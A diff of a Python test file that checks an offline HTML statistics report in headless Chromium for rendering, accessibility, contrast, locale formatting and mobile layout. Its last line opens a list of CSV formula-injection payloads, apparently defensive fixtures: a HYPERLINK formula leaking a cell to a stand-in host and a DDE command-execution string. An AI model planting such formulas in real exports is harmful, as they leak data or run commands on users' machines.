@@ -2,6 +2,7 @@
 round trip, and the offline report opened in a real headless Chromium."""
 
 import csv
+import re
 import shutil
 
 import duckdb
@@ -90,23 +91,89 @@ def chromium_page(tmp_path):
     page.close()
 
 
+READY = ("document.readyState === 'complete' && "
+         "[...document.querySelectorAll('.chart')].every(c => c.querySelector('.main-svg'))")
+# The text a reader can see, with every collapsed data table opened: the page's HTML text minus code samples (file
+# names, dataset codes), plus every text drawn inside a chart (axis titles, ticks, legends, labels).
+VISIBLE_TEXT = r"""(() => {
+  document.querySelectorAll('details').forEach(d => d.open = true);
+  const copy = document.body.cloneNode(true);
+  copy.querySelectorAll('code, script, style, svg').forEach(e => e.remove());
+  document.body.appendChild(copy);
+  const text = copy.innerText;
+  copy.remove();
+  return text + '\n' + [...document.querySelectorAll('svg text')].map(t => t.textContent).join('\n');
+})()"""
+# WCAG contrast of every visible HTML text against the background it is drawn on (chart texts are plotly's #444 on
+# white; bar labels take plotly's automatic contrasting colour).
+LOW_CONTRAST = r"""(() => {
+  const rgb = s => { const m = s.match(/[\d.]+/g).map(Number); return m.length === 3 ? [...m, 1] : m; };
+  const lum = c => { const f = v => { v /= 255; return v <= 0.03928 ? v / 12.92 : Math.pow((v + 0.055) / 1.055, 2.4); };
+                     return 0.2126 * f(c[0]) + 0.7152 * f(c[1]) + 0.0722 * f(c[2]); };
+  const background = el => { for (; el; el = el.parentElement) { const c = rgb(getComputedStyle(el).backgroundColor);
+                             if (c[3] > 0.99) return c; } return [255, 255, 255, 1]; };
+  const low = new Set();
+  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
+  while (walker.nextNode()) {
+    const node = walker.currentNode, el = node.parentElement;
+    if (!node.textContent.trim() || el.closest('svg') || !el.getClientRects().length) continue;
+    const a = lum(rgb(getComputedStyle(el).color)), b = lum(background(el));
+    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
+    if (ratio < 4.5) low.add(el.tagName + ' ' + ratio.toFixed(2) + ' ' + node.textContent.trim().slice(0, 40));
+  }
+  return [...low];
+})()"""
+RAW_ID = re.compile(r"\b[a-z]+_[a-z_]+\b")
+DECIMAL_POINT = re.compile(r"(?<![\d.§])\d+\.\d+(?![\d.])")  # 54.5, not §2.1.1
+
+
+def _viewport(page: Page, width: int) -> None:
+    page.call("Emulation.setDeviceMetricsOverride", {"width": width, "height": 1000, "deviceScaleFactor": 1,
+                                                      "mobile": width < 600}, session=True)
+
+
 @pytest.mark.parametrize("name", ["report.html", "report_en.html"])
 def test_report_renders_offline_in_headless_chromium(built, chromium_page, name):
+    """Issue "A report that answers": the report in a real browser, as a reader meets it."""
     report = built["publish"] / name
-    assert report.stat().st_size > 1_000_000  # plotly.js is embedded
-    chromium_page.open(report.as_uri(), ready="document.readyState === 'complete' && "
-                       "[...document.querySelectorAll('.chart')].every(c => c.querySelector('.main-svg'))")
+    assert 1_000_000 < report.stat().st_size <= 6_000_000  # plotly.js embedded once; one file at most 6 MB
+    _viewport(chromium_page, 1400)
+    chromium_page.open(report.as_uri(), ready=READY)
     n_charts = chromium_page.evaluate("document.querySelectorAll('.chart').length")
     rendered = chromium_page.evaluate("document.querySelectorAll('.chart .plotly-graph-div .main-svg').length")
     assert n_charts >= 40 and rendered >= n_charts
     assert chromium_page.console_errors() == []
     foreign = [u for u in chromium_page.requested_urls() if not u.startswith(("file:", "data:", "about:"))]
     assert foreign == []
-    text = chromium_page.evaluate("document.body.innerText")
+    # key findings first: the overall card and one per dimension, the printed report's findings, and the map
+    assert chromium_page.evaluate("document.querySelectorAll('#key-findings .card').length") == 13  # 12 + overall
+    assert chromium_page.evaluate("document.querySelectorAll('.findings li').length") >= 15
+    from analysis.report.texts import TEXT
+
+    map_title = TEXT["sv" if name == "report.html" else "en"]["map_title"].split("{")[0]
+    assert chromium_page.evaluate(f"[...document.querySelectorAll('.chart')].some(c => c.getAttribute('aria-label')"
+                                  f".startsWith('{map_title}') && c.querySelectorAll('.scatterlayer .trace').length > 20)")
+    # every chart has an accessible name, a data table and a CSV download
+    assert chromium_page.evaluate("[...document.querySelectorAll('figure.chart')].every(c => "
+                                  "c.getAttribute('aria-label') && c.querySelector('details table tbody tr') && "
+                                  "c.querySelector('a[download][href^=\"data:text/csv\"]'))")
+    text = chromium_page.evaluate(VISIBLE_TEXT)
     assert ("Relativ utveckling" if name == "report.html" else "Relative development") in text
     assert "Västerbotten" in text
-    shot = chromium_page.screenshot(ARTIFACTS / name.replace(".html", ".png"))
+    assert sorted(set(RAW_ID.findall(text))) == []  # no code is ever shown to a reader
+    if name == "report.html":
+        assert DECIMAL_POINT.findall(text) == []  # 54,5 on the Swedish page, never 54.5
+    assert chromium_page.evaluate(LOW_CONTRAST) == []
+    chromium_page.evaluate("document.querySelectorAll('details').forEach(d => d.open = false); window.scrollTo(0, 0)")
+    shot = chromium_page.screenshot(ARTIFACTS / name.replace(".html", "-1400.png"))
     assert shot.stat().st_size > 10_000
+    # a phone: no horizontal scroll at 400 px, charts resized to the screen
+    _viewport(chromium_page, 400)
+    chromium_page.open(report.as_uri(), ready=READY)
+    assert chromium_page.evaluate("document.scrollingElement.scrollWidth") <= 400
+    assert chromium_page.evaluate("Math.max(...[...document.querySelectorAll('.chart .main-svg')].map(s => "
+                                  "s.getBoundingClientRect().width))") <= 400
+    chromium_page.screenshot(ARTIFACTS / name.replace(".html", "-400.png"))
 
 
 FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Källa")', "=cmd|' /C calc'!A0", "@SUM(A1)", "+1+1",
